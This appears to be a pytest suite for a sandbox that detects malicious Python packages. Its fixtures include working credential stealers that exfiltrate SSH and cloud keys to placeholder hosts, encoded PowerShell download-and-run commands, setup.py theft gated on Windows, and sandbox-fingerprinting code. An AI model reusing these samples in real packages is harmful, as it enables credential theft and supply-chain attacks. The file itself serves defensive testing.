"""The sandbox's persona, staging and execute phase: grading on recorded facts (no engine),
then real containers (marker `sandbox`): payloads that only run when the package is used,
Windows-only payloads, files named by hash, and the detection tricks malware uses."""

from __future__ import annotations

import base64
import json
import os
from pathlib import Path
from typing import Any

import pytest

import sandbox_fixtures as fx
from builders import BENIGN_SETUP, make_sdist, make_wheel
from pkgvet.model import Finding, Phase, Severity, Verdict
from pkgvet.sandbox import SandboxSettings, persona
from pkgvet.sandbox.canonical import canonical_name
from pkgvet.sandbox.execute import arguments, plan, public_callables
from pkgvet.sandbox.persona import (
    decode_encoded_command,
    grade_commands,
    grade_recon,
    grade_windows_calls,
)
from pkgvet.sandbox.persona.delivery import project_name
from pkgvet.sandbox.runner import Outcome, run
from pkgvet.sources.local import local_artifact
from pkgvet.verdict import decide

IMAGE = os.environ.get("PKGVET_SANDBOX_IMAGE", SandboxSettings().image)


def _ps_encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


DOWNLOAD_AND_RUN = ("IEX (New-Object Net.WebClient).DownloadString("
                    "'http://payload.pkgvet-test.invalid/a.ps1')")

# --- staging under the canonical name ---------------------------------------------------------


def test_a_file_named_by_hash_is_staged_under_its_metadata_name(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "adcpu", "5.94", {"setup.py": ""})
    renamed = sdist.rename(tmp_path / "adcpu__5.94__adcpu-5.94.tar.gz")
    assert canonical_name(renamed) == "adcpu-5.94.tar.gz"
    wheel = make_wheel(tmp_path, "Foo.Bar", "1.0", {"foo/__init__.py": ""})
    disguised = wheel.rename(tmp_path / "d41d8cd98f00b204e9800998ecf8427e.tar.gz")
    assert canonical_name(disguised) == "Foo_Bar-1.0-py3-none-any.whl"
    bz2 = make_sdist(tmp_path, "other", "2.0", {"setup.py": ""}, compression="bz2")
    assert canonical_name(bz2.rename(tmp_path / "blob")) == "other-2.0.tar.bz2"
    assert project_name("foo-bar-1.0.tar.gz", "file") == "foo-bar"
    assert project_name("Foo_Bar-1.0-py3-none-any.whl", "file") == "Foo_Bar"


def test_an_sdist_without_pkg_info_is_named_after_its_folder(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "plain", "0.3", {"setup.py": ""}, with_pkg_info=False)
    assert canonical_name(sdist.rename(tmp_path / "x.tar.gz")) == "plain-0.3.tar.gz"
    junk = tmp_path / "junk.tar.gz"
    junk.write_bytes(b"not an archive")
    assert canonical_name(junk) == "junk.tar.gz"


# --- grading what the persona recorded --------------------------------------------------------


def _persona(kind: str, phase: str = "install", **fields: Any) -> dict[str, Any]:
    return {"type": "persona", "what": kind, "phase": phase, **fields}


def test_encoded_powershell_is_decoded_and_graded() -> None:
    encoded = _ps_encoded(DOWNLOAD_AND_RUN)
    argv = ["powershell", "-NoP", "-W", "Hidden", "-EncodedCommand", encoded]
    assert decode_encoded_command(argv) == DOWNLOAD_AND_RUN
    assert decode_encoded_command(["powershell", "-enc", encoded]) == DOWNLOAD_AND_RUN
    cut = {"type": "syscall", "call": "execve", "phase": "install", "path": "/usr/local/bin/x",
           "argv": [*argv[:-1], encoded[:200] + "..."]}
    findings = grade_commands([_persona("command", argv=argv), cut])
    rules = sorted(f.rule_id for f in findings)
    assert rules == ["PV852", "PV853"], rules
    assert all("DownloadString" in f.snippet for f in findings)


def test_windows_programs_without_a_payload_pattern_are_still_reported() -> None:
    (finding,) = grade_commands([_persona("command", argv=["cmd.exe", "/c", "ver"])])
    assert finding.rule_id == "PV851" and "`cmd`" in finding.title


def test_ordinary_programs_are_not_graded_here() -> None:
    records = [{"type": "syscall", "call": "execve", "phase": "install", "path": "/usr/bin/gcc",
                "argv": ["gcc", "-c", "x.c", "-o", "x.o"]},
               {"type": "syscall", "call": "execve", "phase": "install", "path": "/bin/sh",
                "argv": ["/bin/sh", "-c", "uname -m"]}]
    assert grade_commands(records) == []


def test_registry_autostart_and_injection_calls() -> None:
    records = [
        _persona("winreg", call="OpenKey", key="HKEY_CLASSES_ROOT"),  # mimetypes does this
        _persona("winreg", call="SetValueEx", name="'Updater'", value="'C:\\\\x.exe'",
                 key="HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
        _persona("windll", library="kernel32", function="GetStdHandle", args=["-11"]),
        _persona("windll", library="kernel32", function="VirtualAlloc", args=["0", "4096"]),
        _persona("popen", args="'x.exe'", creationflags=0x08000000, startupinfo=False),
    ]
    assert [f.rule_id for f in grade_windows_calls(records)] == ["PV854", "PV855", "PV856"]


def test_several_recon_reads_are_fingerprinting_one_is_not() -> None:
    def read(path: str, phase: str = "install") -> dict[str, Any]:
        return {"type": "syscall", "call": "open", "phase": phase, "path": path,
                "write": False, "ok": True}

    assert grade_recon([read("/proc/412/cgroup"), read("/proc/412/fd")]) == []
    records = [read("/proc/412/status"), read("/proc/1/cmdline"),
               {"type": "recon_read", "phase": "install", "path": "/sys/class/net/eth0"},
               read("/sys/class/dmi/id/product_name"), read("/proc/uptime", "import")]
    (finding,) = grade_recon(records)
    assert finding.rule_id == "PV850" and finding.phase is Phase.INSTALL
    assert "/proc/1/cmdline (init)" in finding.snippet


# --- the execute phase's plan ------------------------------------------------------------------


def test_placeholders_fill_required_parameters_only() -> None:
    def target(path: str, count: int, *, url: str, flag: bool = True) -> None:
        return None

    assert arguments(target) == (["test", 1], {"url": "test"})


def test_plan_runs_the_project_s_entry_points_and_own_modules(tmp_path: Path) -> None:
    dist = tmp_path / "tool-1.0.dist-info"
    dist.mkdir()
    (dist / "entry_points.txt").write_text("[console_scripts]\ntool = tool.cli:main\n")
    (dist / "RECORD").write_text("tool/__init__.py,,\ntool/cli.py,,\n")
    runs = plan(tmp_path, "tool", ["requests", "tool"])
    labels = [label for label, _, _ in runs]
    assert labels == ["(interpreter start)", "tool --help", "tool", "(imports, windows face)",
                      "tool (calls)", "tool.cli (calls)"]
    assert runs[3][1] == ["windows", "tool", "tool.cli"]  # the package's own, not requests

    import types

    module = types.ModuleType("m")
    exec("import os\nfrom os import path\ndef f(x): pass\nclass C: pass\ndef _g(): pass\n",
         module.__dict__)
    assert [name for name, _ in public_callables(module)] == ["C", "f"]


def test_image_carries_the_persona_under_ordinary_names() -> None:
    files = persona.image_files()
    assert "usr/local/bin/powershell" in files and "usr/local/bin/cmd.exe" in files
    assert all("pkgvet" not in path and "sandbox" not in path for path in files)
    assert all("pkgvet" not in content.lower() for content, _ in files.values())


# --- real containers -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def engine_ready() -> None:
    fx.require_sandbox(SandboxSettings(image=IMAGE))


def _run(path: Path, tmp_path: Path, runtime: str | None = None) -> Outcome:
    house = tmp_path / "wheelhouse"
    house.mkdir(exist_ok=True)
    settings = SandboxSettings(image=IMAGE, wheelhouse=house, install_seconds=60.0,
                               import_seconds=20.0, runtime=runtime)
    return run(local_artifact(path), settings)


def _rules(outcome: Outcome) -> dict[str, list[Any]]:
    found: dict[str, list[Any]] = {}
    for finding in outcome.findings:
        found.setdefault(finding.rule_id, []).append(finding)
    return found


ENTRY_POINT_ONLY = '''\
import subprocess


def main():
    subprocess.run(["whoami"], capture_output=True)
'''


@pytest.mark.sandbox
@pytest.mark.usefixtures("engine_ready")
@pytest.mark.parametrize("runtime", ["runsc", "runc"])
def test_entry_point_only_payload_runs_in_the_execute_phase(tmp_path: Path, runtime: str) -> None:
    path = make_wheel(tmp_path, "quiettool", "1.0", {
        "quiettool/__init__.py": "",
        "quiettool/cli.py": ENTRY_POINT_ONLY,
        "quiettool-1.0.dist-info/entry_points.txt": "[console_scripts]\nqt = quiettool.cli:main\n",
    })
    outcome = _run(path, tmp_path, runtime)
    (finding, *_) = _rules(outcome)["PV804"]
    # recorded, as runtime behaviour: one kind of behaviour when called is only low
    assert "whoami" in finding.snippet and finding.phase is Phase.RUNTIME
    assert finding.severity is Severity.LOW
    labels = [r.get("label") for r in outcome.records if r.get("type") == "phase_start"]
    assert "qt --help" in labels and "quiettool" in labels


ENTRY_POINT_STEALER = """\
import os
import socket


def main():
    try:
        with open(os.path.expanduser("~/.aws/credentials")) as fh:
            blob = fh.read()
    except OSError:
        blob = ""
    try:
        with socket.create_connection(("collect.pkgvet-test.invalid", 443), timeout=3) as c:
            c.sendall(blob.encode()[:300])
    except OSError:
        pass
"""

CALLED_STEALER = """\
import glob
import os
import urllib.request


def sync_settings(target):
    found = {}
    for pattern in ("~/.ssh/id_*", "~/.aws/credentials", "~/.docker/config.json"):
        for path in glob.glob(os.path.expanduser(pattern)):
            try:
                found[path] = open(path).read()[:200]
            except OSError:
                pass
    try:
        urllib.request.urlopen("https://hooks.pkgvet-test.invalid/s",
                               data=repr(found).encode(), timeout=3)
    except Exception:
        pass
"""

HTTP_CLIENT_LOOKALIKE = """\
import netrc
import os
import socket


class Client:
    def __init__(self, base="api.pkgvet-test.invalid"):
        self.base = base
        try:
            self.auth = netrc.netrc(os.path.expanduser("~/.netrc")).authenticators(base)
        except (OSError, netrc.NetrcParseError):
            self.auth = None

    def fetch(self, path):
        try:
            with socket.create_connection((self.base, 443), timeout=3) as conn:
                conn.sendall(b"GET " + path.encode() + b" HTTP/1.0\\r\\n\\r\\n")
        except OSError:
            pass


def get(path):
    return Client().fetch(path)
"""


@pytest.mark.sandbox
@pytest.mark.usefixtures("engine_ready")
@pytest.mark.parametrize("where", ["entry-point", "called-function"])
def test_a_stealer_run_by_the_user_is_still_flagged(tmp_path: Path, where: str) -> None:
    files = ({"stealtool/__init__.py": "", "stealtool/cli.py": ENTRY_POINT_STEALER,
              "stealtool-1.0.dist-info/entry_points.txt":
                  "[console_scripts]\nst = stealtool.cli:main\n"}
             if where == "entry-point" else
             {"stealtool/__init__.py": "", "stealtool/sync.py": CALLED_STEALER})
    outcome = _run(make_wheel(tmp_path, "stealtool", "1.0", files), tmp_path)
    found = _rules(outcome)
    assert any(f.phase is Phase.RUNTIME and f.severity >= Severity.HIGH
               for f in found.get("PV801", [])), sorted(found)
    assert outcome.report.verdict is not Verdict.BENIGN


@pytest.mark.sandbox
@pytest.mark.usefixtures("engine_ready")
def test_a_client_doing_its_job_when_called_is_not_flagged(tmp_path: Path) -> None:
    """Reading ~/.netrc and connecting to its own API host when called with placeholders is
    what an HTTP client is for (httpx did both): recorded, low, and no sandbox flag."""
    path = make_wheel(tmp_path, "tinyhttp", "1.0", {"tinyhttp/__init__.py": HTTP_CLIENT_LOOKALIKE})
    outcome = _run(path, tmp_path)
    runtime = [f for f in outcome.findings if f.phase is Phase.RUNTIME]
    assert runtime and all(f.severity <= Severity.LOW for f in runtime), runtime
    assert outcome.report.verdict is Verdict.BENIGN


@pytest.mark.sandbox
@pytest.mark.usefixtures("engine_ready")
@pytest.mark.parametrize("runtime", ["runsc", "runc"])
def test_pth_only_payload_runs_at_the_bare_interpreter_start(tmp_path: Path, runtime: str) -> None:
    path = make_wheel(tmp_path, "pthonly", "1.0", {
        "zz_pthonly.pth": "import subprocess; subprocess.run(['whoami'], capture_output=True)\n",
    })
    outcome = _run(path, tmp_path, runtime)
    assert outcome.report.installable and outcome.report.modules == ()
    (finding, *_) = _rules(outcome)["PV804"]
    assert "whoami" in finding.snippet and finding.phase is Phase.IMPORT


WINDOWS_SETUP = '''\
import subprocess

try:
    subprocess.Popen("powershell -NoProfile -WindowStyle Hidden -EncodedCommand {encoded}",
                     creationflags=subprocess.CREATE_NO_WINDOW,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).wait()
except Exception:
    pass
'''


@pytest.mark.sandbox
@pytest.mark.usefixtures("engine_ready")
def test_windows_encoded_powershell_in_setup_py_is_recorded_and_decoded(tmp_path: Path) -> None:
    payload = WINDOWS_SETUP.format(encoded=_ps_encoded(DOWNLOAD_AND_RUN))
    path = make_sdist(tmp_path, "winonly", "1.0", {
        "setup.py": payload + "\n" + BENIGN_SETUP.format(name="winonly", version="1.0"),
        "winonly/__init__.py": "",
    })
    outcome = _run(path, tmp_path)
    rules = _rules(outcome)
    assert {"PV852", "PV853", "PV856"} <= set(rules), sorted(rules)
    assert any(DOWNLOAD_AND_RUN in f.snippet for f in rules["PV853"])
    assert rules["PV853"][0].phase is Phase.INSTALL
    assert outcome.report.installable


@pytest.mark.sandbox
@pytest.mark.usefixtures("engine_ready")
def test_a_file_named_by_hash_installs(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "adcpu", "5.94", {
        "setup.py": BENIGN_SETUP.format(name="adcpu", version="5.94"), "adcpu/__init__.py": ""})
    outcome = _run(sdist.rename(tmp_path / "adcpu__5.94__adcpu-5.94.tar.gz"), tmp_path)
    assert outcome.report.installable, outcome.report.log_tail
    assert outcome.report.modules == ("adcpu",)
    assert outcome.findings == [], [(f.rule_id, f.snippet) for f in outcome.findings]


DETECTION_TRICKS = '''\
import json, os, socket


def _read(path, size=4000):
    try:
        with open(path, "rb") as fh:
            return fh.read(size).decode("utf-8", "replace")
    except OSError as exc:
        return "error: %s" % exc


def _ls(path):
    try:
        return sorted(os.listdir(path))
    except OSError:
        return []


home = os.path.expanduser("~")
facts = {
    "hostname": socket.gethostname(),
    "cmdline": _read("/proc/1/cmdline").replace("\\0", " ").strip(),
    "comm": _read("/proc/1/comm").strip(),
    "tracer": [l for l in _read("/proc/self/status").splitlines() if l.startswith("TracerPid")],
    "mountinfo": _read("/proc/self/mountinfo", 20000),
    "net": _ls("/sys/class/net"),
    "uptime": _read("/proc/uptime"),
    "dmi": _read("/sys/class/dmi/id/product_name"),
    "home": _ls(home),
    "config": _ls(os.path.join(home, ".config")),
    "git_user": _read(os.path.join(home, ".git-credentials")).split("//")[-1].split(":")[0],
    "env": sorted(k for k in os.environ),
    "env_values": " ".join(os.environ.values()),
    "cwd_files": _ls("/"),
}
with open("/tmp/facts.json", "w") as fh:
    json.dump(facts, fh)
try:
    with socket.create_connection(("facts.pkgvet-test.invalid", 80), timeout=3) as conn:
        conn.sendall(json.dumps({k: v for k, v in facts.items() if k != "env_values"
                                 and k != "mountinfo"}).encode())
except OSError:
    pass
'''


@pytest.mark.sandbox
@pytest.mark.usefixtures("engine_ready")
def test_detection_tricks_see_an_ordinary_machine_and_are_graded(tmp_path: Path) -> None:
    """Fixture runs the usual checks at install time; the test prints what they saw and
    asserts it looks like a developer's machine, and that the survey itself is a finding."""
    path = make_sdist(tmp_path, "curious", "1.0", {
        "setup.py": DETECTION_TRICKS + "\n" + BENIGN_SETUP.format(name="curious", version="1.0"),
        "curious/__init__.py": "",
    })
    outcome = _run(path, tmp_path)
    sent = [r for r in outcome.records if r.get("type") == "sink" and r.get("port") == 80]
    assert sent, "the fixture's report never reached the sink"
    facts = json.loads(sent[0]["data"])
    print(json.dumps(facts, indent=1))
    words = ("pkgvet", "sandbox", "probe", "wheelhouse", "build")
    assert facts["hostname"].startswith(persona.identity().user + "-")
    if outcome.report.runtime == "runc":
        assert facts["cmdline"] == "/bin/bash" and facts["comm"] == "bash"
    else:  # gVisor 2022 does not expose PID 1's argument area: only its name can change
        assert facts["comm"] == "bash"
    assert facts["git_user"] == persona.identity().user
    assert {".bash_history", ".gitconfig", "projects", ".ssh", ".aws", ".kube",
            ".azure", ".config"} <= set(facts["home"])
    assert {"google-chrome", "gcloud", "discord", "Exodus"} <= set(facts["config"])
    assert "eth0" in facts["net"]  # a network, whose far end is the probe
    assert not any(w in facts["hostname"].lower() for w in words)
    assert not any("PKGVET" in k or "SANDBOX" in k for k in facts["env"])
    assert "pkgvet" not in " ".join(facts["cwd_files"])
    mounts = next((r for r in outcome.records if r.get("type") == "sink"), {})
    assert mounts  # mountinfo is checked below from the install's own view
    assert "PV850" in _rules(outcome), sorted(_rules(outcome))


MOUNTS_CHECK = '''\
import socket
with open("/proc/self/mountinfo") as fh:
    text = fh.read()
env = open("/proc/self/environ", "rb").read().decode("utf-8", "replace")
bad = [w for w in ("pkgvet", "/wheelhouse", "sandbox") if w in text.lower() or w in env.lower()]
try:
    with socket.create_connection(("mounts.pkgvet-test.invalid", 80), timeout=3) as conn:
        conn.sendall(("BAD:" + ",".join(bad)).encode())
except OSError:
    pass
'''


@pytest.mark.sandbox
@pytest.mark.usefixtures("engine_ready")
def test_no_mount_or_variable_names_the_sandbox(tmp_path: Path) -> None:
    path = make_sdist(tmp_path, "mounts", "1.0", {
        "setup.py": MOUNTS_CHECK + "\n" + BENIGN_SETUP.format(name="mounts", version="1.0"),
        "mounts/__init__.py": "",
    })
    outcome = _run(path, tmp_path)
    sent = [str(r.get("data")) for r in outcome.records if r.get("type") == "sink"]
    print(sent)
    assert sent and sent[0] == "BAD:"


def test_a_failed_install_is_tried_again_the_way_its_failure_calls_for() -> None:
    from pkgvet.sandbox.probe import next_install

    base = ["python", "-m", "pip", "install", "x.tar.gz"]
    why, env = next_install(base, "ModuleNotFoundError: No module named 'requests'") or ("", [])
    assert "--no-build-isolation" in env and "--no-deps" not in env
    why, offline = next_install(env, "ERROR: No matching distribution found for rich") or ("", [])
    assert why == "without dependencies" and "--no-deps" in offline
    assert next_install(offline, "No matching distribution found for hatchling") is None
    assert next_install(base, "error: invalid command 'bdist_wheel'") is None


# --- the execute phase's weight (no engine) ----------------------------------------------------


def _found(rule_id: str, snippet: str, phase: Phase = Phase.RUNTIME) -> Finding:
    from pkgvet.registry import rule

    return rule(rule_id).finding(phase=phase, snippet=snippet)


def test_one_kind_of_behaviour_when_called_is_low() -> None:
    from pkgvet.sandbox.runtime_weight import weigh

    client = weigh([_found("PV801", "~/.netrc"), _found("PV806", "connect api.example.com:443")])
    assert all(f.severity is Severity.LOW for f in client)
    assert decide(client) is Verdict.BENIGN
    alone = weigh([_found("PV802", "~/.config/gh/hosts.yml (absent)")])
    assert alone[0].severity is Severity.LOW


def test_theft_when_called_keeps_its_grade() -> None:
    from pkgvet.sandbox.runtime_weight import weigh

    theft = weigh([_found("PV801", "~/.ssh/id_rsa"), _found("PV806", "connect x.invalid:443")])
    assert all(f.severity is Severity.HIGH for f in theft) and decide(theft) is not Verdict.BENIGN
    sweep = weigh([_found("PV801", "~/.ssh/id_rsa"), _found("PV802", "~/.docker/config.json"),
                   _found("PV801", "~/.aws/credentials")])
    assert decide(sweep) is not Verdict.BENIGN
    exfil = weigh([_found("PV803", "data sent to x:443: AKIA...")])
    assert exfil[0].severity is Severity.CRITICAL


def test_install_and_import_time_findings_are_not_weighed() -> None:
    from pkgvet.sandbox.runtime_weight import weigh

    found = weigh([_found("PV802", "~/.netrc", Phase.IMPORT), _found("PV806", "lookup a.b",
                                                                      Phase.INSTALL)])
    assert all(f.severity is Severity.HIGH for f in found)


# --- the setup.py replay under the Windows face (real containers) ------------------------------

GATED_THEFT = """\
import os as _os
import socket as _socket


def _steal():
    try:
        with open(_os.path.expanduser("~/.ssh/id_rsa")) as fh:
            blob = fh.read()
    except OSError:
        blob = ""
    try:
        with _socket.create_connection(("exfil.pkgvet-test.invalid", 443), timeout=3) as conn:
            conn.sendall(blob[:300].encode())
    except OSError:
        pass
"""

WINDOWS_GATES = {
    # the theft only where sys.platform says Windows, at module level of setup.py
    "sys-platform": GATED_THEFT + """
import sys
if sys.platform == "win32":
    _steal()
from setuptools import setup
setup(name="gated", version="1.0", packages=["gated"])
""",
    # in a cmdclass `install` (pip builds a wheel, so `install.run` never runs under pip)
    "os-name-cmdclass": GATED_THEFT + """
import os
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        if os.name == "nt":
            _steal()
        install.run(self)


setup(name="gated", version="1.0", packages=["gated"], cmdclass={"install": Install})
""",
    # after a setup() that fails under pip (an invalid requirement), behind platform.system()
    "after-failing-setup": GATED_THEFT + """
import platform
from setuptools import setup
setup(name="gated", version="1.0", packages=["gated"], install_requires=["not a requirement!"])
if platform.system() == "Windows":
    _steal()
""",
}

MISSING_DEPENDENCY_INIT = """\
import socket
import cookie_grabber_not_installed as grabber

cookies = grabber.chrome(domain_name="example.com")
try:
    socket.create_connection(("hooks.pkgvet-test.invalid", 443), timeout=3).close()
except OSError:
    pass
"""

WINDOWS_AWARE_SETUP = """\
import os
import sys
from setuptools import setup
from setuptools.command.build_py import build_py

extra = ["colorama"] if sys.platform == "win32" else []


class BuildPy(build_py):
    def run(self):
        os.makedirs("build", exist_ok=True)
        with open(os.path.join("build", "_version.txt"), "w") as fh:
            fh.write("1.0")
        build_py.run(self)


setup(name="winaware", version="1.0", packages=["winaware"], install_requires=extra,
      cmdclass={"build_py": BuildPy})
"""


@pytest.mark.sandbox
@pytest.mark.usefixtures("engine_ready")
@pytest.mark.parametrize("gate", sorted(WINDOWS_GATES))
def test_windows_gated_setup_py_is_replayed_and_flagged(tmp_path: Path, gate: str) -> None:
    path = make_sdist(tmp_path, "gated", "1.0", {"setup.py": WINDOWS_GATES[gate],
                                                 "gated/__init__.py": ""})
    outcome = _run(path, tmp_path)
    found = _rules(outcome)
    assert any(f.phase is Phase.INSTALL for f in found.get("PV801", [])), sorted(found)
    assert any("exfil.pkgvet-test.invalid" in f.snippet for f in found.get("PV806", []))
    assert outcome.report.verdict is not Verdict.BENIGN


@pytest.mark.sandbox
@pytest.mark.usefixtures("engine_ready")
def test_import_time_code_runs_past_a_dependency_the_sandbox_lacks(tmp_path: Path) -> None:
    """The package cannot install offline (its dependency is nowhere), yet its import-time
    code is replayed from the source with a stand-in for the missing module."""
    path = make_sdist(tmp_path, "needsdep", "1.0", {
        "setup.py": "from setuptools import setup\nsetup(name='needsdep', version='1.0', "
                    "packages=['needsdep'], install_requires=['cookie-grabber-not-installed'])\n",
        "needsdep/__init__.py": MISSING_DEPENDENCY_INIT,
    })
    outcome = _run(path, tmp_path)
    found = _rules(outcome)
    assert any("hooks.pkgvet-test.invalid" in f.snippet for f in found.get("PV806", [])), \
        sorted(found)
    assert outcome.report.verdict is not Verdict.BENIGN


@pytest.mark.sandbox
@pytest.mark.usefixtures("engine_ready")
def test_a_windows_aware_setup_py_replays_clean(tmp_path: Path) -> None:
    path = make_sdist(tmp_path, "winaware", "1.0", {"setup.py": WINDOWS_AWARE_SETUP,
                                                    "winaware/__init__.py": ""})
    outcome = _run(path, tmp_path)
    labels = [r.get("label") for r in outcome.records if r.get("type") == "phase_start"]
    assert "setup.py (windows face)" in labels
    assert outcome.report.installable
    assert outcome.report.verdict is Verdict.BENIGN, [f.rule_id for f in outcome.findings]


def test_decoded_code_that_fetches_and_runs_is_graded_version_files_are_not() -> None:
    from pkgvet.sandbox.persona import grade_code

    payload = ("import urllib.request, subprocess\nurllib.request.urlretrieve("
               "'http://payload.pkgvet-test.invalid/update.exe', 'u.exe')\n"
               "subprocess.call(['u.exe'])\n")
    version = "__version__ = '1.2.3'\n__url__ = 'https://github.com/example/project'\n"
    records = [{"type": "persona", "what": "code", "call": "exec", "text": text,
                "phase": "install", "label": "setup.py (windows face)"}
               for text in (payload, version)]
    (finding,) = grade_code(records)
    assert finding.rule_id == "PV852" and finding.phase is Phase.INSTALL
    assert "update.exe" in finding.snippet and "decoded code" in finding.title


def test_persistence_written_when_called_keeps_its_grade() -> None:
    from pkgvet.sandbox.runtime_weight import weigh

    (found,) = weigh([_found("PV807", "~/.bashrc")])
    assert found.severity is Severity.HIGH and decide([found]) is not Verdict.BENIGN


def test_the_replay_s_own_copy_of_the_sdist_is_not_a_dropped_hook() -> None:
    """filelock ships a `sitecustomize.py` in its sources: unpacked for the replay it is not
    a start-up hook; the same file written into site-packages is."""
    from pkgvet.sandbox.honeytokens import Honeytokens
    from pkgvet.sandbox.observe import observe

    def dropped(path: str) -> bool:
        records = [{"type": "syscall", "phase": "install", "call": "open", "path": path,
                    "write": True, "ok": True}]
        _, findings = observe(records, Honeytokens.fresh(), image="img", seconds=1.0,
                              killed_by_host=False, timeout=60.0)
        return any(f.rule_id == "PV809" for f in findings)

    assert not dropped("/tmp/build-abc123/filelock-4.3.1/tasks/capability/sitecustomize.py")
    assert dropped("/tmp/venv/lib/python3.11/site-packages/sitecustomize.py")
